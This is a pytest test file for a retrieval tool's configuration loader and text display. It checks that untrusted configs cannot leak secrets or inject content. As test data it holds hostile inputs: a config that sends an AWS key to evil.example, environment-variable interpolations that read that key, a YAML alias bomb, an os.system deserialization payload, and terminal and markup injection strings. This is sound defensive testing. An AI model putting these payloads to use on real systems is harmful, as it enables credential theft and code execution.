"""A configuration or a run from somebody else sends no secret of ours and reads none; texts are shown as plain text."""

import json
import logging
from collections.abc import Callable
from dataclasses import asdict
from pathlib import Path

import pytest

from replug import Retrieved, library
from replug.commands.ask import config_of
from replug.commands.run import search
from replug.config.errors import UserError
from replug.config.evaluation_schema import EvaluationConfig
from replug.config.load import (
    config_to_yaml,
    load_ask_config,
    load_config,
    load_evaluation_config,
    names_evaluation,
)
from replug.config.plain_text import plain_line, plain_text
from replug.config.schema import Config
from replug.evals.tables import Table, print_blocks
from replug.messages import StandardError

SECRET = "AWS_SECRET_ACCESS_KEY"
GOOD = "run_dir: run\nretriever: {path: stand_in}\ndata: {source: stand_in}\n"
EVALUATION = "evaluation: mmlu\nout: run\ndata: {source: stand_in}\nmethods: [none]\n"
SERVER = f"{GOOD}lm: {{url: 'http://evil.example/v1', model: m, tokenizer: m, api_key_env: {SECRET}}}\n"


@pytest.fixture(autouse=True)
def a_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(SECRET, "hunter2")


def write(folder: Path, text: str) -> Path:
    path = folder / "config.yaml"
    path.write_text(text)
    return path


def test_a_run_from_somebody_else_names_neither_the_server_nor_the_key(tmp_path: Path) -> None:
    write(tmp_path, SERVER)
    with pytest.raises(UserError, match=r"names the server http://evil\.example/v1, which is called only if you give"):
        config_of(tmp_path, [])
    own = "lm.url=http://127.0.0.1:8000/v1"
    assert config_of(tmp_path, [own, "lm.model=mine", "lm.tokenizer=m"]).lm.api_key_env == "REPLUG_LM_API_KEY"
    assert config_of(tmp_path, ["lm.path=stand_in"]).lm.url is None


@pytest.mark.parametrize(("schema", "load"), [(Config, load_config), (EvaluationConfig, load_evaluation_config)])
def test_a_file_may_name_our_own_variables_of_keys_only_and_the_command_line_any(
    schema: type, load: Callable, tmp_path: Path
) -> None:
    """Walk the schema, so that a new section with a key is refused as the others are."""
    sections = [name for name, section in vars(schema()).items() if hasattr(section, "api_key_env")]
    assert sections
    head, other = (GOOD, "run_dir") if schema is Config else (EVALUATION, "out")
    for section in sections:
        for value in (SECRET, f"${{{other}}}"):  # by name, or taken from a key that holds the name
            text = f"{head}{section}: {{api_key_env: '{value}'}}\n".replace(f"{other}: run", f"{other}: {SECRET}")
            with pytest.raises(
                UserError, match=rf"{section}.api_key_env: .* names \${SECRET}, which is sent to {section}.url"
            ):
                load(write(tmp_path, text))
    lm = "lm: {{url: 'http://127.0.0.1/v1', model: m, tokenizer: m, api_key_env: {}}}\n"
    assert load(write(tmp_path, head + lm.format("REPLUG_OTHER_KEY"))).lm.api_key_env == "REPLUG_OTHER_KEY"
    assert load(write(tmp_path, head + lm.format(SECRET)), [f"lm.api_key_env={SECRET}"]).lm.api_key_env == SECRET


@pytest.mark.parametrize("pasted", ["sk-proj-a1b2", "Bearer 123", ""])
def test_a_key_that_is_pasted_in_place_of_its_variable_is_refused_and_not_shown(pasted: str, tmp_path: Path) -> None:
    typed = [f"lm.api_key_env='{pasted}'", "lm.url=http://127.0.0.1/v1", "lm.model=m"]
    for text, overrides in ((GOOD, typed), (SERVER.replace(SECRET, f"'{pasted}'"), [])):
        with pytest.raises(UserError, match=r"expected REPLUG_LM_API_KEY, with the key in it") as error:
            load_config(write(tmp_path, text), overrides)
        assert not pasted or pasted not in str(error.value)


@pytest.mark.parametrize("value", ["${oc.env:AWS_SECRET_ACCESS_KEY}", "${${seed}.env:AWS_SECRET_ACCESS_KEY}"])
def test_nothing_but_other_keys_stands_in_for_a_value(value: str, tmp_path: Path) -> None:
    text = GOOD.replace("stand_in}", f'stand_in, query_prompt: "{value}"}}', 1)
    for load in (
        lambda: load_config(write(tmp_path, text)),
        lambda: load_config(write(tmp_path, GOOD + "lm: {path: stand_in}"), [f"retriever.query_prompt={value}"]),
        lambda: load_ask_config([f"lm.path={value}"]),
        lambda: load_evaluation_config(write(tmp_path, "evaluation: language_modelling\n"), [f"out={value}"]),
    ):
        with pytest.raises(UserError) as caught:
            load()
        assert "hunter2" not in str(caught.value)
    for escaped in (r"\x24{oc.env:AWS_SECRET_ACCESS_KEY}", r"$\u007boc.env:AWS_SECRET_ACCESS_KEY}"):
        with pytest.raises(UserError, match=r"asks for more than another key"):
            load_config(write(tmp_path, GOOD + f'lm: {{path: stand_in, model: "{escaped}"}}\n'))
    config = load_config(write(tmp_path, GOOD + "lm: {path: stand_in, cache: 'a-${run_dir}-${train.lr}'}\n"))
    assert config.lm.cache == "a-run-2e-05" and "hunter2" not in config_to_yaml(config)


@pytest.mark.parametrize("part", ["me:hunter2@host/v1", "hunter2@host/v1", "host/v1?key=hunter2", "host/v1#hunter2"])
def test_a_url_with_a_secret_in_it_is_refused_without_being_shown(part: str, tmp_path: Path) -> None:
    for url in (f"http://{part}", part) if ":" in part else (f"http://{part}",):
        with pytest.raises(UserError, match=r"lm\.url holds a secret") as caught:
            load_config(write(tmp_path, GOOD), [f"lm.url={url}", "lm.model=m"])
        assert "hunter2" not in str(caught.value)


# Aliases of aliases, which grow without end, and an object of Python.
ALIASES = [f"{new}: &{new} [{', '.join([f'*{old}'] * 10)}]" for old, new in zip("abcdefgh", "bcdefghi", strict=True)]
HOSTILE_FILES = {
    "\n".join([f"a: &a {['x'] * 10}", *ALIASES]): "is an alias",
    "run_dir: !!python/object/apply:os.system ['touch /tmp/owned']": "not valid YAML",
}


@pytest.mark.parametrize("text", HOSTILE_FILES, ids=HOSTILE_FILES.values())
def test_a_hostile_file_ends_in_one_line(text: str, tmp_path: Path) -> None:
    path = write(tmp_path, text)
    assert not names_evaluation(path)
    with pytest.raises(UserError, match=HOSTILE_FILES[text]):
        load_config(path)


# Texts that a terminal shows ------------------------------------------------------------------------------------------

HOSTILE_TEXTS = [
    "[/INST] and [/]",
    "[link=https://example.com]here[/link]",
    "\x1b[31mred\x1b[0m",
    "abc\u202edcba\u2066",  # backwards
    ":smile: :skull:",
]
MARKDOWN = ["a | b | c", "<script>alert(1)</script>", "![x](http://a.b/p.png)", "**bold** and _italic_ and `code`"]
MARKDOWN += ["a &lt; b", "back\\slash \\| pipe", "line\n| 9.9999 | 9.9999 |"]


def test_plain_text_is_left_as_it_is(capsys: pytest.CaptureFixture[str]) -> None:
    for text in ("a plain line", "Zürich, 日本語, 🙂", "👩\u200d🔬 and \u0646\u0645\u06cc\u200c\u062e", "a\n\tb"):
        assert plain_text(text) == text
    assert plain_line("a\n  b\u00a0c\td") == "a b c d"
    assert plain_text("\x1b[2J\x9b\u202e\ud800") == "\\x1b[2J\\x9b\\u202e\\ud800"
    StandardError().emit(logging.LogRecord("replug", logging.INFO, "", 0, "row %s", ("\x1b[2J\nnext",), None))
    assert capsys.readouterr().err == "row \\x1b[2J\nnext\n"


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_a_document_is_shown_by_search_as_it_is_written(
    text: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    documents = [Retrieved(f"begin {text} end", 0.5, text, "s")]
    monkeypatch.setattr(library, "search", lambda *_: documents)
    search(Path("a[/b]"), "q", 1)
    shown = capsys.readouterr().out
    assert f"begin {plain_text(text)} end" in shown and plain_text(shown) == shown
    search(Path("i"), "q", 1, as_json=True)
    line = capsys.readouterr().out.rstrip("\n")
    assert line.isprintable() and json.loads(line)["found"] == [asdict(document) for document in documents]


@pytest.mark.parametrize("cell", [*MARKDOWN, *HOSTILE_TEXTS])
def test_a_group_is_one_cell_of_table_md_and_nothing_else(cell: str, capsys: pytest.CaptureFixture[str]) -> None:
    print_blocks([Table(["group", "value"], [[cell, "1.0000"]])], width=200)
    shown = capsys.readouterr().out
    last = next(line for line in shown.splitlines() if "1.0000" in line)
    assert plain_text(shown) == shown
    assert " ".join(last.replace("1.0000", "").split()) == plain_line(cell)
